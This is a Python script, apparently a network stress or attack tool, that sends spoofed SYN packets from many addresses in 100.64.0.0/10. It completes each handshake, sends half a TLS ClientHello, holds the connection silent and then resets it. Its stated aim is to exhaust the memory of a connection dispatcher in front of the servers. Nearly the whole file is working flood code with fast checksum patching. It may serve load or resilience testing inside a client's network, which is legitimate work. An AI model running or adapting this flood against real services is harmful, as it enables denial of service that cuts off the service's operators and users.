# SPDX-License-Identifier: Apache-2.0
"""Connections that complete the handshake, send half a ClientHello, and are silent: run inside the client's network.

    hold_flood.py DEVICE GATEWAY_MAC ADDRESS PORT COUNT    prints how many half hellos were sent

Each comes from an address and port of its own (100.64.0.0/10) and is reset a moment later, so that it is the
dispatcher's memory that is flooded, not the servers'.
"""

import errno
import socket
import struct
import sys
import time
from collections import deque

from segments import ACK, PSH, SYN, frame, open_wire

RST = 0x04
ISN, HALF_HELLO = 1000, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(89)
BATCH, SILENT_SECONDS = 128, 0.3


class Template:
    """A frame of which only source, port and acknowledgement change: its checksums follow (RFC 1624)."""

    def __init__(self, whole: bytes):
        self.whole = whole
        self.ip, self.tcp = (~struct.unpack_from("!H", whole, at)[0] & 0xFFFF for at in (24, 50))

    def fill(self, number: int, ack: int) -> bytes:
        words = number_words(number)
        ip, tcp = self.ip + words[0] + words[1], self.tcp + sum(words) + (ack >> 16) + (ack & 0xFFFF)
        out = bytearray(self.whole)
        struct.pack_into("!HHHHH", out, 24, fold(ip), *words[:2], *struct.unpack_from("!HH", out, 30))
        struct.pack_into("!H", out, 34, words[2])
        struct.pack_into("!I", out, 42, ack)
        struct.pack_into("!H", out, 50, fold(tcp))
        return bytes(out)


def fold(total: int) -> int:
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def number_words(number: int) -> tuple[int, int, int]:
    """Address 100.64.x.y and port of one connection."""
    return 0x6440 + (number >> 24), number >> 8 & 0xFFFF, 1024 + (number & 0xFF)


def number_of(packet: bytes) -> int:
    """The connection that a frame to us belongs to; -1: none of ours."""
    high, low = struct.unpack_from("!HH", packet, 30)
    return low << 8 | struct.unpack_from("!H", packet, 36)[0] - 1024 if high == 0x6440 else -1


def template(ethernet: bytes, target: bytes, port: int, seq: int, flags: int, payload: bytes = b"") -> Template:
    return Template(frame(ethernet, bytes(4), target, (0, port), (seq, 0), flags, payload))


def put(wire: socket.socket, packet: bytes) -> None:
    """Waits for room in the device's queue (packet(7): ENOBUFS)."""
    while True:
        try:
            wire.send(packet)
            return
        except OSError as error:
            if error.errno not in (errno.EAGAIN, errno.ENOBUFS):
                raise
            time.sleep(0.0005)


def flood(device: str, gateway: str, address: str, port: str, count: str) -> None:
    wire, ethernet = open_wire(device, gateway)
    wire.setblocking(False)
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    to = (ethernet, socket.inet_aton(address), int(port))
    syn, half = template(*to, ISN, SYN), template(*to, ISN + 1, PSH | ACK, HALF_HELLO)
    reset = template(*to, ISN + 1 + len(HALF_HELLO), RST | ACK)
    silent: deque[tuple[float, bytes]] = deque()
    asked = answered = 0
    deadline = time.monotonic() + 60
    while (answered < int(count) or silent) and time.monotonic() < deadline:
        for _ in range(BATCH if answered < int(count) else 0):
            put(wire, syn.fill(asked, 0))
            asked += 1
        try:
            while True:
                packet = wire.recv(2048)
                number = number_of(packet)
                if number < 0 or packet[47] != SYN | ACK:
                    continue
                cookie = struct.unpack_from("!I", packet, 38)[0] + 1 & 0xFFFFFFFF
                put(wire, half.fill(number, cookie))
                silent.append((time.monotonic() + SILENT_SECONDS, reset.fill(number, cookie)))
                answered += 1
        except BlockingIOError:
            pass
        while silent and silent[0][0] < time.monotonic():
            put(wire, silent.popleft()[1])
    print(answered)


if __name__ == "__main__":
    flood(*sys.argv[1:])
